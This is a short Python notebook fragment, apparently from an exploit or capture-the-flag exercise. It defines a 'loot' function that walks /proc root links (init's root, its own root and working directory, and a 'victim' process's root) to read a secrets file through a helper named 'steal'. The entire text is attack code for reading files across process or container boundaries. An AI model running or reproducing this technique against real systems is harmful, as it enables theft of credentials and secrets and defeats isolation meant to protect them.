# %%
from kit import *

# %%
def loot():
    roots = ["/proc/1/root", "/proc/self/root", "/proc/self/cwd", f"/proc/{WORLD['victim']}/root"]
    return next(filter(None, (steal(root + WORLD["secrets"]) for root in roots)), None)
